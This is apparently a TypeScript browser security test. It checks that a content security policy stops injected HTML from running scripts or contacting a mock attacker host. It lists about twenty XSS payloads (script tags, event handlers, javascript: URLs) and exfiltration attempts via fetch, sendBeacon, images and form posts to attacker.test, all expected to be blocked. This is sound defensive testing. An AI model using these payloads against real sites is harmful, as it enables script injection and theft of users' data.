import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { openAttackedDoor } from './support/attacked-door.js'
import type { AttackedDoor } from './support/attacked-door.js'
import { openAttackerSite } from './support/attacker.js'
import type { AttackerSite } from './support/attacker.js'
import { openBrowser, WITHOUT_CHROMIUM } from './support/chromium.js'
import type { Browser } from './support/chromium.js'

const PWN = 'window.pwned = true'

/** What somebody may say, or an agent may answer, so that a careless page runs it. */
const SCRIPTS_IN_WORDS: readonly string[] = [
  `<script>${PWN}</script>`,
  `<img src=x onerror="${PWN}">`,
  `<svg onload="${PWN}"></svg>`,
  `<svg><script>${PWN}</script></svg>`,
  `<body onpageshow="${PWN}">`,
  `<iframe srcdoc="<script>parent.pwned = true</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned = true"></iframe>`,
  `<details open ontoggle="${PWN}">x</details>`,
  `<input autofocus onfocus="${PWN}">`,
  `<video><source onerror="${PWN}"></video>`,
  `<math><mtext><img src=x onerror="${PWN}"></mtext></math>`,
  `<style>@import 'http://attacker.test:PORT/style'; body { background: url(http://attacker.test:PORT/back) }</style>`,
  `<link rel=stylesheet href="http://attacker.test:PORT/link">`,
  `<img src="http://attacker.test:PORT/image?secret">`,
  `<script src="http://attacker.test:PORT/script"></script>`,
  `<object data="http://attacker.test:PORT/object"></object>`,
  `<embed src="http://attacker.test:PORT/embed">`,
  `<base href="http://attacker.test:PORT/">`,
  `<meta http-equiv=refresh content="0; url=javascript:${PWN}">`,
  `<a id=bait href="javascript:${PWN}">click</a>`,
]

/** A page that does the worst: it takes words for HTML. Its own script runs, as the policy allows. */
const CARELESS_SCRIPT = `
window.ownScript = true
window.blocked = []
document.addEventListener('securitypolicyviolation', (event) => window.blocked.push(event.effectiveDirective))
window.show = (words) => {
  const place = document.createElement('div')
  document.body.append(place)
  place.innerHTML = words
  for (const script of place.querySelectorAll('script')) {
    const again = document.createElement('script')
    if (script.src) again.src = script.src
    else again.textContent = script.textContent
    place.append(again)
  }
}
`

describe('security: a page that takes words for HTML', { timeout: 120_000, skip: WITHOUT_CHROMIUM }, () => {
  let browser: Browser
  let attacked: AttackedDoor
  let site: AttackerSite

  before(async () => {
    browser = await openBrowser(['attacker.test'])
    site = await openAttackerSite(PWN)
    const files = new Map([
      [
        '/index.html',
        ['text/html', `<!doctype html><p>page</p><script>${PWN}</script><script src="/app.js"></script>`],
      ],
      ['/app.js', ['text/javascript', CARELESS_SCRIPT]],
    ])
    attacked = await openAttackedDoor((path) => {
      const [contentType, text] = files.get(path) ?? []
      return contentType === undefined ? undefined : { contentType, bytes: new TextEncoder().encode(text) }
    })
  })
  after(async () => {
    await browser.close()
    await Promise.all([attacked.door.close(), site.close()])
  })

  it('security: no script in words runs and nothing is fetched from elsewhere, however the page shows them', async () => {
    const page = await browser.openPage()
    await page.goto(`${attacked.door.url}/`)
    assert.equal(await page.evaluate('window.ownScript'), true)
    for (const words of SCRIPTS_IN_WORDS) {
      const text = words.replaceAll('PORT', String(site.port))
      await page.evaluate(`show(${JSON.stringify(text)})`)
      await page.evaluate('new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 20)))')
      assert.equal(await page.evaluate('window.pwned ?? false'), false, words)
    }
    await page.evaluate(`document.getElementById('bait').click()`)
    await page.evaluate('new Promise((resolve) => setTimeout(resolve, 50))')
    assert.equal(await page.evaluate('window.pwned ?? false'), false)
    assert.equal(page.url(), `${attacked.door.url}/`)
    assert.deepEqual(site.asked(), [])
    const blocked = new Set(String(await page.evaluate('window.blocked.join()')).split(','))
    for (const kind of ['script-src-elem', 'script-src-attr', 'img-src', 'style-src-elem', 'object-src', 'base-uri']) {
      assert.ok(blocked.has(kind), `${kind} was never blocked: ${[...blocked].join()}`)
    }
    await page.close()
  })

  it('security: what runs in the page by mistake can neither make code of text nor send anything elsewhere', async () => {
    const page = await browser.openPage()
    await page.goto(`${attacked.door.url}/`)
    const elsewhere = `http://attacker.test:${site.port}/`
    // What `page.evaluate` runs at once is above the policy; what a timer of the page runs later is not.
    const inPage = (work: string): Promise<unknown> =>
      page.evaluate(`new Promise((resolve) => setTimeout(() => {
        const done = (value) => resolve(String(value))
        try { Promise.resolve(${work}).then(done, () => done('refused')) } catch (error) { done(error.name) }
      }))`)
    assert.equal(await inPage(`eval('1 + 1')`), 'EvalError')
    assert.equal(await inPage(`new Function('return 2')()`), 'EvalError')
    assert.equal(await inPage(`fetch('${elsewhere}')`), 'refused')
    assert.match(String(await inPage(`new WebSocket('${elsewhere.replace('http', 'ws')}')`)), /SecurityError|WebSocket/)
    await inPage(`navigator.sendBeacon('${elsewhere}', 'secret')`)
    await inPage(`new Image().src = '${elsewhere}'`)
    const form = `<form method=post action="${elsewhere}"><input name=a></form>`
    await inPage(`(document.body.innerHTML = ${JSON.stringify(form)}, document.forms[0].submit(), 1)`)
    await page.evaluate('new Promise((resolve) => setTimeout(resolve, 100))')
    assert.equal(page.url(), `${attacked.door.url}/`)
    assert.deepEqual(site.asked(), [])
    await page.close()
  })
})
